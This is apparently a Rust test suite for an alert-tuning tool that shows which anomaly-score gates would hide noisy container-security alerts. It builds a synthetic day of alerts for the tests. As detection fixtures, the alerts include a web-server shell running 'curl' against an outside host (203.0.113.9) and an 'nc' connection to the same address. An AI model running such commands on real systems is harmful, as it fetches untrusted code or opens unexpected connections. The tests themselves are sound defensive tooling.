//! `anomalyctl tune`: what gates would do to alerts that were written already. The alerts are made up here.

mod input;
mod judged;

use std::fmt::Write as _;
use std::fs;
use std::path::Path;
use std::process::Command;

use serde_json::{Map, Value, json};

use crate::recording::{Folder, START, gzip, web_week};
use crate::support::{PROGRAM, Ran, replay, run, run_with, settle};

const CONTACT: &str = "Container talks to the control plane";
const SHELL: &str = "Server starts a shell";
const DROPPED: &str = "Program added to a container";

fn tune(arguments: &[&str]) -> Command {
    let mut command = Command::new(PROGRAM);
    settle(&mut command);
    command.arg("tune").args(arguments);
    command
}

/// An alert of a rule at this many seconds after the first one.
fn alert(rule: &str, seconds: f64, fields: Value) -> String {
    let moment = 1_772_438_400_000_000_i64 + (seconds * 1e6) as i64;
    let Value::Object(mut fields) = fields else { panic!("fields are an object") };
    fields.insert("evt.time".into(), json!(moment * 1_000));
    let priority = if rule == DROPPED { "Critical" } else { "Notice" };
    json!({
        "hostname": "node-3", "output": "08:00:00.000000000: Notice made up", "priority": priority, "rule": rule,
        "source": "syscall", "tags": ["container"], "time": "2026-03-02T08:00:00.000000000Z", "output_fields": fields,
    })
    .to_string()
        + "\n"
}

fn connection(workload: &str, program: &str, to: &str, score: Option<&str>) -> Value {
    json!({
        "evt.type": "connect", "proc.name": program, "proc.pname": "containerd-shim", "proc.cmdline": program,
        "fd.name": format!("10.244.1.7:{}->{to}", 40_000 + to.len() * 37 + program.len()), "anomaly.score": "0.0000",
        "anomaly.event_score": score, "anomaly.workload": workload,
    })
}

fn execution(workload: &str, line: &str, score: Option<&str>) -> Value {
    let name = line.split(' ').next().unwrap_or_default();
    json!({
        "evt.type": "execve", "proc.name": name, "proc.pname": "nginx", "proc.cmdline": line, "anomaly.score": score,
        "anomaly.event_score": score, "anomaly.workload": workload,
    })
}

/// One day as a public cluster had it: 29,465 connections, 3,150 shells, 450 added programs, and 5 of something else.
fn cluster() -> String {
    let mut alerts = String::new();
    let mut add = |rule: &str, count: usize, fields: &dyn Fn(usize) -> Value| {
        for number in 0..count {
            let seconds = 86_400.0 * number as f64 / count as f64;
            alerts += &alert(rule, seconds, fields(number));
        }
    };
    add(CONTACT, 29_465, &|number| match number {
        // A known program that never did it, a stranger, and the first of a day.
        17 => connection("docker.io/library/shop", "python3", "10.96.0.1:443", Some("0.9712")),
        4_711 => connection("quay.io/argo/argocd", "nc", "203.0.113.9:6443", Some("0.9955")),
        9_000..9_010 => connection("quay.io/argo/argocd", "argocd-server", "10.96.0.1:443", Some("0.8500")),
        9_010..9_020 => connection("quay.io/argo/argocd", "argocd-server", "10.96.0.1:443", Some("0.8499")),
        0..10 => connection("quay.io/argo/argocd", "argocd-server", "10.96.0.1:443", None),
        _ if number % 3 == 0 => {
            connection("quay.io/mesh/proxy", "pilot-agent", "10.96.0.1:443", Some("0.0000"))
        }
        _ => connection("quay.io/argo/argocd", "argocd-server", "10.96.0.1:443", Some("0.0000")),
    });
    add(SHELL, 3_150, &|number| match number {
        99 => execution("docker.io/library/shop", "sh -c curl http://203.0.113.9/x", Some("0.9300")),
        _ => execution("docker.io/library/shop", &format!("sh -c check --id {number}"), Some("0.1200")),
    });
    add(DROPPED, 450, &|_| execution("docker.io/ci/build", "cc1 -o /tmp/a.o", Some("0.0000")));
    add("Seldom", 5, &|_| execution("host", "id", Some("0.9000")));
    alerts
}

fn report(ran: &Ran) -> Value {
    let lines = ran.json();
    assert_eq!(lines.len(), 1);
    lines.into_iter().next().expect("there is one")
}

fn rule<'r>(report: &'r Value, name: &str) -> &'r Value {
    let rules = report["rules"].as_array().expect("a list");
    rules.iter().find(|rule| rule["rule"] == name).unwrap_or_else(|| panic!("no {name} in {report}"))
}

#[test]
fn a_day_of_alerts_becomes_a_page_that_a_person_reads() {
    let folder = Folder::new();
    let alerts = folder.file("alerts.jsonl", cluster());
    let directory = folder.path("page");
    let ran = run(tune(&[]).arg(&alerts).arg("--json").arg("--report").arg(&directory)).succeeded();
    let report = report(&ran);
    assert_eq!((&report["alerts"], &report["days"]), (&33_070.into(), &1.0.into()));
    let names: Vec<_> =
        report["rules"].as_array().expect("a list").iter().map(|rule| &rule["rule"]).collect();
    assert_eq!(names, [CONTACT, SHELL, DROPPED, "Seldom"]);

    let contact = rule(&report, CONTACT);
    // The two attacks, ten at the threshold itself, ten of the learning workload.
    assert_eq!(contact["remain"], json!({"0.70": 32, "0.85": 22, "0.95": 12}));
    assert_eq!((&contact["hidden"], &contact["learning"]), (&29_443.into(), &10.into()));
    assert_eq!((&contact["advice"]["recommended"], &contact["a_day"]), (&true.into(), &29_465.0.into()));
    let workloads = contact["workloads"].as_array().expect("a list");
    assert_eq!(
        workloads.iter().map(|workload| workload["alerts"].as_u64().unwrap_or(0)).sum::<u64>(),
        29_465
    );
    // Grouped: whoever did it, to what; ports that the kernel chose do not tell one from another.
    let hidden = contact["would_hide"].as_array().expect("a list");
    assert_eq!(hidden.len(), 2, "{hidden:?}");
    assert_eq!(hidden[0]["program"], "containerd-shim > argocd-server");
    assert_eq!(hidden[0]["object"], "connect 10.96.0.1:443");
    // The example is the most novel of them.
    assert_eq!(hidden[0]["highest"], 0.8499);
    let remains = contact["would_remain"].as_array().expect("a list");
    let fates: Vec<_> = remains.iter().map(|group| (&group["fate"], &group["count"])).collect();
    let expected = [("novel", 10), ("learning", 10), ("novel", 1), ("novel", 1)]
        .map(|(fate, count)| (json!(fate), json!(count)));
    assert_eq!(fates, expected.each_ref().map(|(fate, count)| (fate, count)));

    // Numbers in command lines do not make groups.
    let shell = rule(&report, SHELL);
    assert_eq!(shell["would_hide"].as_array().map(Vec::len), Some(1));
    assert_eq!(shell["would_hide"][0]["object"], "sh -c check --id #");
    let dropped = &rule(&report, DROPPED)["advice"];
    assert_eq!(dropped["recommended"], false);
    assert!(dropped["why_not"][0].as_str().is_some_and(|why| why.contains("only by name")), "{dropped}");
    assert!(rule(&report, "Seldom")["advice"]["why_not"].to_string().contains("not noisy"));

    let page = fs::read_to_string(directory.join("report.html")).expect("it was written");
    for part in [CONTACT, "29443", "argocd-server", "<svg", "connect 10.96.0.1:443", "Would be hidden"] {
        assert!(page.contains(part), "no {part}");
    }
    assert!(!page.contains("<script") && !page.contains("href=") && page.len() < 200_000, "{}", page.len());
    let written = fs::read(directory.join("report.json")).expect("it was written");
    assert_eq!(serde_json::from_slice::<Value>(&written).expect("JSON"), report);
}

#[test]
fn a_person_sees_the_rules_and_what_would_be_hidden() {
    let ran = run_with(&mut tune(&[]), cluster().as_bytes()).succeeded();
    // Columns are as wide as what is in them.
    let out: String = ran
        .out
        .split_inclusive('\n')
        .map(|line| line.split_whitespace().collect::<Vec<_>>().join(" ") + "\n")
        .collect();
    for line in [
        "33,070 alerts of 4 rules in 1.0 days",
        &format!("{CONTACT} 29,465 32 22 12 gate"),
        &format!("{CONTACT}: a gate would hide 29,443 of 29,465 alerts (99.9 %)"),
        "would be hidden:",
        "would remain:",
        "not recommended: it is CRITICAL",
    ] {
        assert!(out.contains(line), "no {line:?} in\n{}", ran.out);
    }
    assert!(ran.out.lines().count() < 100, "a page is a page");
}

#[test]
fn gates_are_written_for_the_rules_that_were_named_and_shown() {
    let folder = Folder::new();
    let alerts = folder.file("alerts.jsonl", cluster());
    let file = folder.path("gates.yaml");
    let write = |arguments: &[&str]| {
        let mut command = tune(arguments);
        command.arg(&alerts).arg("--write").arg(&file);
        run(&mut command)
    };
    // Who names none gets none, and everything is shown before it is written.
    write(&[]).failed_with(&["--write needs to know", "--rule"]);
    write(&["--rule", "Nothing of the kind"]).failed_with(&["no alert is of the rule", CONTACT]);
    assert!(!file.exists());
    let ran = write(&["--all-noisy"]).succeeded();
    assert!(ran.out.contains("connect 10.96.0.1:443") && ran.err.contains("2 gates written"), "{}", ran.err);
    let text = fs::read_to_string(&file).expect("it was written");
    for part in [
        format!(
            "- rule: {CONTACT}\n  condition: and not anomaly.event_score < 0.85\n  override:\n    condition: append\n"
        ),
        format!("- rule: {SHELL}\n"),
        "- required_plugin_versions:\n    - name: anomaly\n".to_owned(),
        "it would have hidden 29443.".to_owned(),
    ] {
        assert!(text.contains(&part), "no {part} in\n{text}");
    }
    assert!(
        !text.contains(DROPPED) && !text.contains("Seldom") && !text.contains("skip-if-unknown"),
        "{text}"
    );
    // It passes our own lint, and a file that somebody reviewed is not replaced by the way.
    let mut lint = Command::new(PROGRAM);
    settle(&mut lint);
    run(lint.arg("lint-rules").arg(&file)).succeeded();
    write(&["--all-noisy"]).failed_with(&["gates.yaml exists", "--force"]);
    let ran = write(&["--rule", DROPPED, "--force"]).succeeded();
    assert!(ran.err.contains("is CRITICAL: with its gate"), "{}", ran.err);
    let text = fs::read_to_string(&file).expect("it was written");
    assert!(text.contains(&format!("- rule: {DROPPED}\n")) && !text.contains(CONTACT), "{text}");
    assert_eq!(
        fs::read_dir(folder.path("")).expect("it is there").count(),
        2,
        "nothing half-written is left"
    );
}

#[test]
fn a_reader_that_leaves_gets_no_gates_and_the_report_all_the_same() {
    let folder = Folder::new();
    // More than a pipe holds.
    let mut alerts = String::new();
    for number in 0_u32..900 {
        let words: String =
            number.to_string().chars().map(|digit| char::from(digit as u8 - b'0' + b'a')).collect();
        alerts += &alert(
            SHELL,
            10.0,
            execution("web", &format!("sh -c {words} {}", "x".repeat(200)), Some("0.1000")),
        );
    }
    folder.file("alerts.jsonl", alerts);
    for format in ["", "--json"] {
        let script = format!(
            "cd {} && rm -rf page && {PROGRAM} tune alerts.jsonl {format} --rule '{SHELL}' --report page --write gates.yaml \
             | head -c 10; exit ${{PIPESTATUS[0]}}",
            folder.path("").display()
        );
        let mut command = Command::new("bash");
        settle(&mut command);
        run(command.args(["-c", &script])).failed_with(&["gates.yaml is not written"]);
        assert!(!folder.path("gates.yaml").exists());
        assert!(folder.path("page/report.html").exists() && folder.path("page/report.json").exists());
    }
}

/// The same alerts, however they were kept.
#[test]
fn a_directory_that_cannot_be_written_is_told_before_anything_is_read() {
    let folder = Folder::new();
    let file = folder.file("file", "");
    run(tune(&["--report"]).arg(&file).arg("/no/such/log"))
        .failed_with(&["cannot write the report", "--report"]);
    let directory = Path::new("/");
    run(tune(&["--all-noisy", "--write"]).arg(directory)).failed_with(&["is a directory", "--write"]);
}
